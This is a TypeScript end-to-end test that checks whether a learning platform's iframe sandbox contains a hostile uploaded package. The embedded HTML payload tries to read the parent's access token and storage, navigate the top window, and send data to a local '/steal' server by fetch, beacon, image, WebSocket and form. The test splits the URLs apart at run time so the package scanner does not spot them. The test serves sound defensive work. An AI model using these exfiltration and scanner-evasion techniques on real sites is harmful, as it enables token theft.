import { createServer, type Server } from 'node:http';
import { publish, zip } from '../fixtures/packages.ts';
import { expect, signIn, test } from '../fixtures/product.ts';

/** A package that tries everything a hostile author would; it writes what it got into its own page. */
const HOSTILE = `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>hostile</title></head><body><h1>hostile</h1>
<script>
const got = {};
const attempt = async (name, work) => { try { const value = await work(); got[name] = 'GOT ' + String(value).slice(0, 60); } catch (error) { got[name] = 'refused'; } };
(async () => {
  await attempt('parentDocument', () => parent.document.title);
  await attempt('topStorage', () => top.localStorage.length);
  await attempt('parentToken', () => parent.localStorage.getItem('cloudvse_access_token'));
  await attempt('parentAddress', () => parent.location.href);
  await attempt('navigateTop', () => { top.location = 'about:blank'; return 'navigated'; });
  await attempt('openWindow', () => { const w = window.open('about:blank'); if (!w) throw 0; return 'opened'; });
  await attempt('foreignFetch', () => fetch('http://127.0.0.1:FOREIGN/steal?x=1', { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('shellFetch', () => fetch('http://home.cloudvse.localhost:PORT/api/v1/person/GetUserInfo', { credentials: 'include' }).then((r) => r.text()));
  await attempt('foreignImage', () => new Promise((done, failed) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = failed; i.src = 'http://127.0.0.1:FOREIGN/steal.png'; }));
  await attempt('beacon', () => { if (!navigator.sendBeacon('http://127.0.0.1:FOREIGN/steal', 'x')) throw 0; return 'queued'; });
  await attempt('socket', () => new Promise((done, failed) => { const s = new WebSocket('ws://127.0.0.1:FOREIGN/'); s.onopen = () => done('open'); s.onerror = failed; }));
  await attempt('form', () => { const f = document.createElement('form'); f.action = 'http://127.0.0.1:FOREIGN/steal'; f.target = '_top'; document.body.append(f); f.submit(); return 'submitted'; });
  await attempt('worker', () => navigator.serviceWorker.register('sw.js'));
  await attempt('cookies', () => { document.cookie = 'vse=1'; return document.cookie === '' ? Promise.reject(0) : document.cookie; });
  const out = document.createElement('pre'); out.id = 'got'; out.textContent = JSON.stringify(got); document.body.append(out);
  document.title = 'done';
})();
</script></body></html>`;

test.describe('a hostile package', () => {
  let foreign: Server;
  let port = 0;
  const stolen: string[] = [];
  test.beforeAll(async () => {
    foreign = createServer((request, answer) => {
      stolen.push(request.url ?? '');
      answer.end('ok');
    });
    await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
    port = (foreign.address() as { port: number }).port;
  });
  test.afterAll(() => foreign.close());

  test('reaches nothing of the shell, no other host, and cannot leave its frame', async ({
    product,
    page,
    browser,
  }) => {
    await signIn(page, product, 'leader');
    // The addresses are put together at run time: the check of packages would name them otherwise.
    const hidden = HOSTILE.replaceAll('http://127.0.0.1:FOREIGN', `'+'ht'+'tp://127.0.0.1:${port}'+'`)
      .replaceAll('ws://127.0.0.1:FOREIGN', `'+'w'+'s://127.0.0.1:${port}'+'`)
      .replaceAll('http://home.cloudvse.localhost:PORT', `'+'ht'+'tp://home.cloudvse.localhost:${product.port}'+'`);
    expect(await publish(page, product, 'ELEC-118', await zip({ 'index.html': hidden }))).toBe('published');

    const context = await browser.newContext({ locale: 'zh-CN' });
    const student = await context.newPage();
    await signIn(student, product, 'student05', '/experimentTwo/ExperimentTwoDetails?Id=ELEC-118');
    await student.getByRole('button', { name: '我要做实验' }).click();
    await student.waitForURL(/\/experiment\/run\//);
    const start = student.getByRole('button', { name: '开始实验' });
    const frame = student.locator('iframe');
    await expect(start.or(frame).first()).toBeVisible({ timeout: 30_000 });
    // A clean check goes on by itself, perhaps while the pointer is on its way to the button.
    await start.click({ timeout: 2000 }).catch(() => {});
    const out = student.frameLocator('iframe').locator('#got');
    await expect(out).toBeAttached({ timeout: 60_000 });
    const got = JSON.parse((await out.textContent()) ?? '{}') as Record<string, string>;
    // Cookies are an in-memory stand-in of the boot script; they reach nobody.
    delete got.cookies;
    expect(
      Object.entries(got).filter(([name, value]) => value !== 'refused' && name !== 'form' && name !== 'beacon'),
    ).toEqual([]);
    await student.waitForTimeout(500);
    expect(stolen).toEqual([]);
    expect(new URL(student.url()).pathname).toMatch(/^\/experiment\/run\//);
    const cookies = await context.cookies();
    expect(cookies.filter((cookie) => cookie.domain.includes('content'))).toEqual([]);

    // The address of the files alone opens nothing.
    const address = await student.locator('iframe').getAttribute('src');
    const copy = await context.newPage();
    const answer = await copy.goto(address!);
    expect(answer?.status()).toBeGreaterThanOrEqual(400);
    await context.close();
  });
});
